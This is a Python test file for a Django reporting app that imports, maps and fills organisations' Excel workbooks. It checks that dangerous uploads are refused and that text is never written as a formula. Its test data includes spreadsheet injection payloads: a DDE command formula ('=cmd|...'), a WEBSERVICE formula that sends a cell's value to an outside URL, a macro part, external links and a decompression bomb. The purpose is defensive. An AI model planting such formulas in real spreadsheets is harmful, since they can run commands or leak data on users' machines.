"""The programme's own workbook: brought in, mapped, filled so that everything else in it stays, and never dangerous."""

import datetime as dt
import io
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from tests.signing import signed_in
from tests.unit.reporting.test_months import crowd, hand_in
from tests.universe import Universe
from twofold.core.errors import Invalid
from twofold.reporting import actions, mapping, standing
from twofold.reporting.actions.workbooks import NewWorkbook
from twofold.reporting.files import example, workbook


def packed(change: Any = None) -> bytes:
    """A programme's workbook: a merged title, a styled cell, a formula over what will be filled."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Form 7"
    sheet.merge_cells("A1:D1")
    sheet["A1"] = "Our monthly form"
    sheet["B3"].font = Font(bold=True, color="FF0000")
    sheet["B5"] = "=B3+B4"
    if change:
        change(sheet)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def told(*cells: dict[str, Any]) -> str:
    return mapping.write(mapping.cell({"sheet": "Form 7", **one}) for one in cells)


def bring(universe: Universe, content: bytes, text: str | None = None, login: str = "meera") -> Any:
    return actions.bring_workbook(by=universe.actor(login), new=NewWorkbook("form.xlsx", content, text))


def taken(universe: Universe, login: str = "meera", **asked: str) -> Any:
    answer = signed_in(universe.staff[login]).get("/months/file/", {"period": "2026-10", "kind": "workbook", **asked})
    assert answer.status_code == 200
    return load_workbook(io.BytesIO(answer.content))


def test_figures_go_into_their_cells_and_everything_else_stays(universe: Universe) -> None:
    crowd(universe)
    text = told({"cell": "B3", "figure": "needles_out"}, {"cell": "B4", "figure": "reached"},
                {"cell": "C3", "figure": "needles_out", "period": "quarter"}, {"cell": "C1", "text": "period"})  # fmt: skip
    with pytest.raises(Invalid, match="Name the first of them, A1"):
        bring(universe, packed(), text)
    bring(universe, packed(), text.replace('"C1"', '"A1"'))
    hand_in(universe)
    sheet = taken(universe)["Form 7"]
    assert (sheet["A1"].value, sheet["B3"].value, sheet["B4"].value) == ("October 2026", 94, 8)
    assert sheet["B3"].font.b
    assert sheet["B5"].value == "=B3+B4"
    assert sheet["C3"].value == 94 + 20  # the quarter, with November so far
    assert "A1:D1" in {area.coord for area in sheet.merged_cells.ranges}


def test_a_hidden_count_says_so_in_the_workbook(universe: Universe) -> None:
    bring(universe, packed(), told({"cell": "B3", "figure": "reached"}, {"cell": "B4", "figure": "needles_out"}))
    sheet = taken(universe)["Form 7"]  # a draft: two people were met
    assert sheet["B3"].value == "hidden"
    assert "not nought" in sheet["B3"].comment.text
    assert sheet["B4"].value == 34


def test_the_example_fills_by_its_names_alone(universe: Universe) -> None:
    crowd(universe)
    bring(universe, example.build())
    sheet = taken(universe)[example.SHEET]
    found = {row[0].value: row[2].value for row in sheet.iter_rows(min_row=6) if row[0].value}
    assert (found["C1"], found["A3"]) == (94, 8)
    assert sheet["B3"].value == "October 2026"
    assert found["A3w"] == "hidden"


def test_a_new_workbook_keeps_the_cells_that_it_still_has(universe: Universe) -> None:
    bring(universe, packed(), told({"cell": "B3", "figure": "reached"}, {"cell": "B4", "figure": "condoms"}))
    found = bring(universe, packed(lambda sheet: sheet.merge_cells("B4:C4") or sheet.merge_cells("B2:B3")))
    assert found.dropped == ("Form 7!B3",)
    (kept,) = mapping.parse(standing.mapping_of(found.row).text).cells
    assert kept.at == "Form 7!B4"


def with_part(content: bytes, name: str, text: str = "x") -> bytes:
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed_file:
        packed_file.writestr(name, text)
    return out.getvalue()


REFUSED = {
    "macros": with_part(packed(), "xl/vbaProject.bin"),
    "linked to other": with_part(packed(), "xl/externalLinks/externalLink1.xml"),
    "unpacks to more": with_part(packed(), "xl/media/big.png", "0" * (workbook.MOST_UNPACKED + 1)),
    "reaches outside": packed(lambda sheet: sheet.cell(9, 1, "=cmd|'/c calc'!A0")),
    "formula in Form 7!A9": packed(lambda sheet: sheet.cell(9, 1, '=WEBSERVICE("http://example.org/"&A1)')),
    "larger than 2 MB": b"PK" + b"0" * workbook.MOST_BYTES,
    "not an Excel workbook": b"not a workbook at all",
    "Save it as .xlsx, without a password": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "cannot be read": with_part(b"", "xl/workbook.xml", "<"),
}


@pytest.mark.parametrize("words", REFUSED)
def test_what_is_dangerous_or_no_workbook_is_refused_with_what_to_do(words: str) -> None:
    with pytest.raises(Invalid) as problem:
        workbook.look(REFUSED[words])
    assert words in str(problem.value.message)


@settings(deadline=None, max_examples=40)
@given(st.text(max_size=40) | st.sampled_from(["=cmd()", "+1", "-1", "@x", "\t=1", "=HYPERLINK(1)", "hidden"]))
def test_no_text_is_ever_taken_for_a_formula(text: str) -> None:
    filled = workbook.fill(packed(), {("Form 7", "B3"): text}, why_hidden="why", title=text)
    cell = load_workbook(io.BytesIO(filled))["Form 7"]["B3"]
    assert cell.data_type != "f"
    assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t"))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[[cell]", "This is not TOML"),
        ("x = 1", "A mapping is a list"),
        ("cell = [1]", "A mapping is a list"),
        ('[[cell]]\nsheet="Form 7"\ncell="B3"\nfigure="nothing"', "figures are"),
        ('[[cell]]\nsheet="Form 7"\ncell="3"\nfigure="reached"', "cannot be read (cell)"),
        ('[[cell]]\nsheet="Form 7"\ncell="B3"\nfigure="reached"\nby={sex="x"}', "cannot be read"),
        ('[[cell]]\nsheet="Other"\ncell="B3"\nfigure="reached"', "There is no sheet"),
        ('[[cell]]\nsheet="Form 7"\ncell="B5"\nfigure="reached"', "stands a formula"),
        ('[[cell]]\nsheet="Form 7"\ncell="B3"\nfigure="reached"\n' * 2, "twice"),
    ],
)
def test_a_mapping_that_cannot_be_is_refused_and_nothing_changes(universe: Universe, text: str, words: str) -> None:
    found = bring(universe, packed(), told({"cell": "B3", "figure": "reached"}))
    browser = signed_in(universe.staff["meera"])
    answer = browser.post("/workbook/mapping/", {"text": text})
    assert answer.status_code == 400
    assert words in answer.content.decode().replace("&quot;", '"')
    assert standing.mapping_of(found.row).version == 1


def test_over_the_page_bring_map_leave_out_and_take_both_away(universe: Universe) -> None:
    browser = signed_in(universe.staff["priya"])
    assert b"Bring it in" in browser.get("/workbook/").content
    for url in ("/workbook/file/", "/workbook/mapping/file/"):
        assert browser.get(url).status_code == 302
    assert browser.post("/workbook/", {}).status_code == 400
    file = SimpleUploadedFile("=cmd().xlsx", packed(lambda sheet: sheet.cell(3, 1, "Reached")))
    assert browser.post("/workbook/", {"file": file}).status_code == 302
    said = {
        "sheet": "Form 7",
        "cell": "b3",
        "figure": "reached",
        "sex": "woman",
        "age": "",
        "kind": "",
        "period": "month",
    }
    assert browser.post("/workbook/cell/", said).status_code == 302
    assert browser.post("/workbook/cell/", {**said, "cell": "B9", "figure": "text:place"}).status_code == 302
    assert browser.post("/workbook/cell/", {**said, "cell": "B5"}).status_code == 400
    assert browser.post("/workbook/cell/", {**said, "cell": "nonsense"}).status_code == 400
    page = browser.get("/workbook/").content.decode()
    assert "Form 7!B3" in page
    text = browser.get("/workbook/mapping/file/").content.decode()
    assert len(mapping.parse(text).cells) == 2
    assert browser.post("/workbook/cell/", {"without": "Form 7!B9"}).status_code == 302
    assert len(mapping.parse(browser.get("/workbook/mapping/file/").content.decode()).cells) == 1
    assert load_workbook(io.BytesIO(browser.get("/workbook/file/").content))["Form 7"]["A3"].value == "Reached"
    assert browser.get("/workbook/example/").status_code == 200
    assert signed_in(universe.staff["bina"]).get("/workbook/mapping/file/").status_code == 302, "another organisation's"


@given(st.text(max_size=31), st.sampled_from(["reached", "condoms"]), st.sampled_from(sorted(mapping.PERIODS)))
def test_a_mapping_is_read_as_it_was_written(sheet: str, figure: str, period: str) -> None:
    if not sheet or any(ord(c) in range(0xD800, 0xE000) for c in sheet):
        return
    cells = (
        mapping.cell({"sheet": sheet, "cell": "AB12", "figure": figure, "by": {"sex": "woman"}, "period": period}),
    )
    assert mapping.parse(mapping.write(cells)).cells == cells


def test_the_periods_that_a_cell_may_ask_for() -> None:
    from twofold.indicators.periods import month

    codes = {which: mapping.other(month(2026, 1), which).code for which in mapping.PERIODS}
    assert codes == {"month": "2026-01", "previous": "2025-12", "quarter": "2026-Q1", "year": "2026"}
    assert mapping.other(month(2026, 1), "previous").end == dt.date(2025, 12, 31)
